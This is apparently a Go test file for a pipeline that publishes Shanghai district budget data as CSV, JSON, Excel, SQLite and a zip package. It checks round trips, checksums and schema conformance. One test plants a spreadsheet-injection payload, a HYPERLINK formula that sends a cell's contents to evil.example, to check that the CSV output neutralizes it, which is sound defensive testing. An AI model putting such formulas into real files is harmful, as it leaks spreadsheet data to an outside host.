package emit_test

import (
	"archive/zip"
	"bufio"
	"bytes"
	"context"
	"crypto/sha256"
	"database/sql"
	"encoding/csv"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"reflect"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"testing"

	"github.com/gocarina/gocsv"
	"github.com/santhosh-tekuri/jsonschema/v5"
	"github.com/xuri/excelize/v2"

	"budgetpub/pipeline"
	"budgetpub/pipeline/emit"
	"budgetpub/schema"

	_ "modernc.org/sqlite" // database/sql driver, to read the database back
)

func corpus(t testing.TB) []*schema.Document {
	t.Helper()
	var docs []*schema.Document
	for _, f := range []string{
		"../../data/000_70dee09d8603147c.txt",
		"../../data/corpus/01_shanghai-putuo_wanli-street_2024_dept-budget.txt",
		"../../data/corpus/07_shanghai-putuo_finance-bureau_2024_final-accounts.txt",
	} {
		d, err := pipeline.ExtractFile(context.Background(), f, "")
		if err != nil {
			t.Fatal(err)
		}
		docs = append(docs, d)
	}
	return docs
}

func write(t *testing.T) (string, []*schema.Document, *emit.Result) {
	t.Helper()
	docs := corpus(t)
	dir := t.TempDir()
	res, err := emit.Write(dir, docs, "test")
	if err != nil {
		t.Fatal(err)
	}
	return dir, docs, res
}

func read(t *testing.T, dir, rel string) []byte {
	t.Helper()
	data, err := os.ReadFile(filepath.Join(dir, rel))
	if err != nil {
		t.Fatal(err)
	}
	return data
}

// cellsOf turns rows into string cells in column order, as the model gives them.
func cellsOf(rows any) [][]string {
	v := reflect.ValueOf(rows)
	var out [][]string
	for i := 0; i < v.Len(); i++ {
		r := v.Index(i)
		var row []string
		for j := 0; j < r.NumField(); j++ {
			row = append(row, fmt.Sprint(r.Field(j).Interface()))
		}
		out = append(out, row)
	}
	return out
}

// sameNumber compares a cell with a value read back from another format.
func sameCell(want, got string) bool {
	if want == got {
		return true
	}
	a, err1 := strconv.ParseFloat(want, 64)
	b, err2 := strconv.ParseFloat(got, 64)
	return err1 == nil && err2 == nil && a == b
}

func tablesOf(docs []*schema.Document) map[string]any {
	return map[string]any{
		"documents": emit.DocumentRows(docs), "line_items": emit.LineItemRows(docs), "three_public": emit.ThreePublicRows(docs),
		"indicators": emit.IndicatorRows(docs), "assets": emit.AssetRows(docs), "checks": emit.CheckRows(docs),
		"classification": emit.ClassificationRows(),
	}
}

func TestRoundTrip(t *testing.T) {
	dir, docs, _ := write(t)
	for name, rows := range tablesOf(docs) {
		want := cellsOf(rows)
		if len(want) == 0 {
			t.Errorf("%s: no rows from the corpus", name)
			continue
		}
		t.Run(name, func(t *testing.T) {
			// CSV through gocsv into the same row type
			back := reflect.New(reflect.TypeOf(rows))
			if err := gocsv.UnmarshalBytes(read(t, dir, name+".csv"), back.Interface()); err != nil {
				t.Fatal(err)
			}
			if !reflect.DeepEqual(back.Elem().Interface(), rows) {
				t.Errorf("csv differs from the model")
			}
			// NDJSON: objects in column order, numbers as numbers
			sc := bufio.NewScanner(bytes.NewReader(read(t, dir, "json/"+name+".ndjson")))
			sc.Buffer(nil, 1<<20)
			n := 0
			cols := header(read(t, dir, name+".csv"))
			for sc.Scan() {
				var obj map[string]any
				d := json.NewDecoder(strings.NewReader(sc.Text()))
				d.UseNumber()
				if err := d.Decode(&obj); err != nil {
					t.Fatal(err)
				}
				if n >= len(want) {
					t.Fatalf("ndjson rows > %d, want %d", n, len(want))
				}
				for j, c := range cols {
					got := ""
					if v := obj[c]; v != nil {
						got = fmt.Sprint(v)
					}
					if !sameCell(want[n][j], got) {
						t.Fatalf("json row %d %s = %q, want %q", n, c, got, want[n][j])
					}
				}
				n++
			}
			if n != len(want) {
				t.Errorf("ndjson rows %d, want %d", n, len(want))
			}
		})
	}
}

func header(csv []byte) []string {
	line, _, _ := bytes.Cut(csv, []byte("\n"))
	return strings.Split(strings.TrimSpace(string(line)), ",")
}

func TestWorkbookAndDatabase(t *testing.T) {
	dir, docs, _ := write(t)
	f, err := excelize.OpenFile(filepath.Join(dir, "budgetpub.xlsx"))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if f.GetSheetName(0) != "README" {
		t.Errorf("first sheet %q", f.GetSheetName(0))
	}
	db, err := sql.Open("sqlite", filepath.Join(dir, "budgetpub.sqlite"))
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	for name, rows := range tablesOf(docs) {
		want := cellsOf(rows)
		sheet, err := f.GetRows(name, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		// the header frozen and filterable, amounts in yuan shown as #,##0.00
		if p, err := f.GetPanes(name); err != nil || !p.Freeze || p.YSplit != 1 {
			t.Errorf("sheet %s: header not frozen (%+v, %v)", name, p, err)
		}
		for j, fl := range packageFields(t, dir, name) {
			if fl.Type != "number" || !strings.Contains(fl.Description, "yuan") || len(sheet) < 2 {
				continue
			}
			cell, _ := excelize.CoordinatesToCellName(j+1, 2)
			id, _ := f.GetCellStyle(name, cell)
			if st, err := f.GetStyle(id); err != nil || st.NumFmt != 4 {
				t.Errorf("sheet %s column %s: not formatted as an amount", name, fl.Name)
			}
		}
		if len(sheet) != len(want)+1 {
			t.Fatalf("sheet %s: %d rows, want %d", name, len(sheet)-1, len(want))
		}
		for i, row := range want {
			for j, c := range row {
				got := ""
				if j < len(sheet[i+1]) {
					got = sheet[i+1][j]
				}
				if !sameCell(c, got) {
					t.Fatalf("sheet %s row %d col %d = %q, want %q", name, i, j, got, c)
				}
			}
		}
		q, err := db.Query(fmt.Sprintf("SELECT * FROM %q ORDER BY rowid", name))
		if err != nil {
			t.Fatal(err)
		}
		i := 0
		for q.Next() {
			vals := make([]sql.NullString, len(want[0]))
			ptrs := make([]any, len(vals))
			for j := range vals {
				ptrs[j] = &vals[j]
			}
			if err := q.Scan(ptrs...); err != nil {
				t.Fatal(err)
			}
			for j, v := range vals {
				if !sameCell(want[i][j], v.String) {
					t.Fatalf("sqlite %s row %d col %d = %q, want %q", name, i, j, v.String, want[i][j])
				}
			}
			i++
		}
		q.Close()
		if i != len(want) {
			t.Errorf("sqlite %s: %d rows, want %d", name, i, len(want))
		}
	}
	var bad int
	db.QueryRow("SELECT count(*) FROM pragma_foreign_key_check").Scan(&bad)
	if bad != 0 {
		t.Errorf("%d foreign key violations", bad)
	}
}

func TestBundleAndSums(t *testing.T) {
	dir, _, res := write(t)
	sums := read(t, dir, emit.SumsFile)
	lines := strings.Split(strings.TrimSpace(string(sums)), "\n")
	listed := map[string]bool{}
	for _, l := range lines {
		sum, name, ok := strings.Cut(l, "  ")
		data := read(t, dir, name)
		h := sha256.Sum256(data)
		if !ok || hex.EncodeToString(h[:]) != sum {
			t.Errorf("SHA256SUMS: %s does not match", name)
		}
		listed[name] = true
	}
	for _, l := range [][]emit.File{res.Documents, res.Tables, res.Downloads} {
		for _, f := range l {
			if !listed[f.Path] {
				t.Errorf("%s missing from SHA256SUMS", f.Path)
			}
		}
	}
	zr, err := zip.OpenReader(filepath.Join(dir, "budgetpub.zip"))
	if err != nil {
		t.Fatal(err)
	}
	defer zr.Close()
	inZip := map[string]bool{}
	for _, zf := range zr.File {
		inZip[strings.TrimPrefix(zf.Name, "budgetpub/")] = true
		if zf.Name == "budgetpub/README.txt" {
			continue
		}
		rc, _ := zf.Open()
		var b bytes.Buffer
		b.ReadFrom(rc)
		rc.Close()
		if !bytes.Equal(b.Bytes(), read(t, dir, strings.TrimPrefix(zf.Name, "budgetpub/"))) {
			t.Errorf("%s in the zip differs from the file", zf.Name)
		}
	}
	// the zip is the package: every file but itself, the workbook and the
	// database (downloads of their own, every table in one file each)
	whole := map[string]bool{"budgetpub.zip": true, "budgetpub.xlsx": true, "budgetpub.sqlite": true}
	for name := range listed {
		if !whole[name] && !inZip[name] {
			t.Errorf("%s missing from the zip", name)
		}
	}
	for name := range whole {
		if !listed[name] {
			t.Errorf("%s missing from SHA256SUMS", name)
		}
		if inZip[name] {
			t.Errorf("%s in the zip", name)
		}
	}
	var pkg struct{ Resources []struct{ Path string } }
	if err := json.Unmarshal(read(t, dir, "datapackage.json"), &pkg); err != nil {
		t.Fatal(err)
	}
	for _, r := range pkg.Resources {
		if !inZip[r.Path] {
			t.Errorf("datapackage.json lists %s, which the zip lacks", r.Path)
		}
	}
	if !inZip["README.txt"] {
		t.Error("no README in the zip")
	}
}

// TestWriteDocumentThenAddWritten: the documents' JSON written at once,
// out of order, on several goroutines (WriteDocument), then added in order
// (AddWritten), give a release byte for byte the one Add gives, and the
// bytes WriteDocument returns are the file's.
func TestWriteDocumentThenAddWritten(t *testing.T) {
	want, docs, wantRes := write(t)
	dir := t.TempDir()
	w, err := emit.NewWriter(dir, "test")
	if err != nil {
		t.Fatal(err)
	}
	datas, files, errs := make([][]byte, len(docs)), make([]emit.File, len(docs)), make([]error, len(docs))
	var wg sync.WaitGroup
	for i := len(docs) - 1; i >= 0; i-- {
		wg.Go(func() { datas[i], files[i], errs[i] = w.WriteDocument(docs[i]) })
	}
	wg.Wait()
	for i, d := range docs {
		if errs[i] != nil {
			t.Fatal(errs[i])
		}
		if got := read(t, dir, "data/"+d.ID+".json"); !bytes.Equal(got, datas[i]) || files[i].Bytes != int64(len(got)) {
			t.Errorf("%s: WriteDocument returned %d bytes (%d in its File), the file holds %d", d.ID, len(datas[i]), files[i].Bytes, len(got))
		}
		r, err := emit.RowsOf(d, nil)
		if err == nil {
			err = w.AddWritten(files[i], r)
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	res, err := w.Close()
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(res.Documents, wantRes.Documents) {
		t.Errorf("documents %v, Add gives %v", res.Documents, wantRes.Documents)
	}
	wantFiles, gotFiles := snapshot(t, want), snapshot(t, dir)
	if len(gotFiles) != len(wantFiles) {
		t.Errorf("%d files, Add gives %d", len(gotFiles), len(wantFiles))
	}
	for rel, data := range wantFiles {
		if !bytes.Equal(gotFiles[rel], data) {
			t.Errorf("%s differs from the one Add gives", rel)
		}
	}
}

// frictionlessPathPattern is the path pattern of the Frictionless v2
// profile, which uses look-ahead (not supported by Go's RE2); the test
// replaces it with what it allows for relative paths and checks the
// excluded cases itself.
const frictionlessPathPattern = `^((?=[^./~])(?!file:)((?!\\/\\.\\.\\/)(?!\\\\)(?!:\\/\\/).)*|(http|ftp)s?:\\/\\/.*)$`

func TestDatapackageProfile(t *testing.T) {
	dir, _, _ := write(t)
	profile, err := os.ReadFile("testdata/frictionless-v2-datapackage.json")
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Contains(profile, []byte(frictionlessPathPattern)) {
		t.Fatal("the profile's path pattern changed; review the substitute")
	}
	profile = bytes.ReplaceAll(profile, []byte(frictionlessPathPattern), []byte(`^([^./~][^\\\\]*|(http|ftp)s?://.*)$`))
	c := jsonschema.NewCompiler()
	if err := c.AddResource("datapackage.json", bytes.NewReader(profile)); err != nil {
		t.Fatal(err)
	}
	sch, err := c.Compile("datapackage.json")
	if err != nil {
		t.Fatal(err)
	}
	// the profile bites: no resources, or a bad hash, is rejected
	for _, bad := range []string{`{"name": "x"}`, `{"resources": [{"name": "a", "path": "a.csv", "hash": "sha256:xyz"}]}`} {
		var v any
		json.Unmarshal([]byte(bad), &v)
		if sch.Validate(v) == nil {
			t.Fatalf("profile accepted %s", bad)
		}
	}
	raw := read(t, dir, "datapackage.json")
	var pkg any
	json.Unmarshal(raw, &pkg)
	if err := sch.Validate(pkg); err != nil {
		t.Fatalf("datapackage.json does not fit the Frictionless v2 profile: %#v", err)
	}
	var p struct {
		Resources []struct {
			Name, Path, Hash, Format string
			Bytes, RowCount          int
			Schema                   *struct {
				Fields []struct{ Name, Type, Description string }
			}
		}
	}
	json.Unmarshal(raw, &p)
	for _, r := range p.Resources {
		if strings.Contains(r.Path, "/../") || strings.Contains(r.Path, "://") || strings.HasPrefix(r.Path, ".") || strings.Contains(r.Path, `\`) {
			t.Errorf("%s: path not allowed by the profile", r.Path)
		}
		data := read(t, dir, r.Path)
		h := sha256.Sum256(data)
		if r.Hash != "sha256:"+hex.EncodeToString(h[:]) || r.Bytes != len(data) {
			t.Errorf("%s: hash or bytes wrong", r.Path)
		}
		if r.Format == "csv" && r.RowCount != bytes.Count(data, []byte("\n"))-1 {
			t.Errorf("%s: rowCount %d", r.Path, r.RowCount)
		}
		if r.Schema != nil {
			for _, f := range r.Schema.Fields {
				if f.Description == "" || f.Type == "" {
					t.Errorf("%s.%s: no type or description", r.Name, f.Name)
				}
			}
		}
	}
	if !regexp.MustCompile(`"currency": "CNY"`).Match(raw) {
		t.Error("no fiscal currency")
	}
}

// BenchmarkEmit1000 writes 1,000 documents in every format; it reports the
// output size.
func BenchmarkEmit1000(b *testing.B) {
	base := corpus(b)
	var docs []*schema.Document
	for i := 0; i < 1000; i++ {
		d := *base[i%len(base)]
		d.ID = fmt.Sprintf("doc%04d", i)
		docs = append(docs, &d)
	}
	b.ResetTimer()
	for b.Loop() {
		dir := b.TempDir()
		if _, err := emit.Write(dir, docs, "bench"); err != nil {
			b.Fatal(err)
		}
		var size int64
		filepath.Walk(dir, func(_ string, fi os.FileInfo, _ error) error {
			if fi != nil && !fi.IsDir() {
				size += fi.Size()
			}
			return nil
		})
		b.ReportMetric(float64(size)/1e6, "MB")
	}
}

// TestFormulaCellsNeutralized: text from the input that a spreadsheet would
// read as a formula (a cell starting with = + - @ tab or CR) gets a ' before
// it in the CSV files, as OWASP advises against CSV injection; numeric
// columns keep their minus signs, and JSON, NDJSON, SQLite and the workbook
// keep the true text.
func TestFormulaCellsNeutralized(t *testing.T) {
	docs := corpus(t)
	d := docs[0]
	evil := `=HYPERLINK("http://evil.example/?"&A1,"x")`
	d.Department.Name = evil
	d.Department.Region = "+86"
	d.Document.Source.Path = "@evil.txt"
	if d.Revenue == nil || len(d.Revenue.Sources) == 0 {
		t.Fatal("the seed has no revenue sources")
	}
	d.Revenue.Sources[0].Name = "-1+1"
	d.Revenue.Sources[0].Amount = -d.Revenue.Sources[0].Amount
	negative := d.Revenue.Sources[0].Amount.String()
	dir := t.TempDir()
	if _, err := emit.Write(dir, docs, "test"); err != nil {
		t.Fatal(err)
	}
	numeric := map[string]bool{}
	var pkg struct {
		Resources []struct {
			Path, Description string
			Schema            *struct{ Fields []struct{ Name, Type string } }
		}
	}
	json.Unmarshal(read(t, dir, "datapackage.json"), &pkg)
	found := map[string]bool{}
	for _, r := range pkg.Resources {
		if !strings.HasSuffix(r.Path, ".csv") {
			continue
		}
		if !strings.Contains(r.Description, "has a ' put before it") {
			t.Errorf("%s: the description does not give the rule: %q", r.Path, r.Description)
		}
		for _, f := range r.Schema.Fields {
			numeric[f.Name] = f.Type == "number" || f.Type == "integer"
		}
		recs, err := csv.NewReader(bytes.NewReader(read(t, dir, r.Path))).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", r.Path, err)
		}
		for _, rec := range recs[1:] {
			for j, c := range rec {
				col := recs[0][j]
				if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) && !numeric[col] && !(col == "comparator" && c == "=") {
					t.Errorf("%s: %s cell %q would be read as a formula", r.Path, col, c)
				}
				for _, want := range []string{"'" + evil, "'+86", "'@evil.txt", "'-1+1", negative} {
					if c == want {
						found[r.Path+" "+want] = true
					}
				}
			}
		}
	}
	for _, want := range []string{"'" + evil, "'+86", "'@evil.txt"} {
		if !found["documents.csv "+want] {
			t.Errorf("documents.csv: no cell %q", want)
		}
	}
	for _, want := range []string{"'-1+1", negative} {
		if !found["line_items.csv "+want] {
			t.Errorf("line_items.csv: no cell %q", want)
		}
	}
	// the other formats keep the true value
	if !bytes.Contains(read(t, dir, "json/documents.ndjson"), []byte(`"department":"=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"`)) {
		t.Error("json/documents.ndjson does not hold the department name as it is")
	}
	db, err := sql.Open("sqlite", filepath.Join(dir, "budgetpub.sqlite"))
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	var dep, src string
	if err := db.QueryRow(`SELECT department, source_file FROM documents WHERE id = ?`, d.ID).Scan(&dep, &src); err != nil || dep != evil || src != "@evil.txt" {
		t.Errorf("sqlite: %q %q %v", dep, src, err)
	}
	f, err := excelize.OpenFile(filepath.Join(dir, "budgetpub.xlsx"))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, _ := f.GetRows("documents")
	for i, row := range rows {
		if len(row) > 1 && row[0] == d.ID {
			cell, _ := excelize.CoordinatesToCellName(2, i+1)
			formula, _ := f.GetCellFormula("documents", cell)
			typ, _ := f.GetCellType("documents", cell)
			if row[1] != evil || formula != "" || typ == excelize.CellTypeFormula {
				t.Errorf("workbook %s = %q, formula %q, type %v: want the text, no formula", cell, row[1], formula, typ)
			}
		}
	}
}

// packageFields are a table's fields as datapackage.json describes them.
func packageFields(t *testing.T, dir, table string) []emit.Field {
	t.Helper()
	data, err := os.ReadFile(filepath.Join(dir, "datapackage.json"))
	if err != nil {
		t.Fatal(err)
	}
	var pkg struct {
		Resources []struct {
			Name   string `json:"name"`
			Schema struct {
				Fields []emit.Field `json:"fields"`
			} `json:"schema"`
		} `json:"resources"`
	}
	if err := json.Unmarshal(data, &pkg); err != nil {
		t.Fatal(err)
	}
	for _, r := range pkg.Resources {
		if r.Name == table {
			return r.Schema.Fields
		}
	}
	t.Fatalf("datapackage.json has no resource %s", table)
	return nil
}
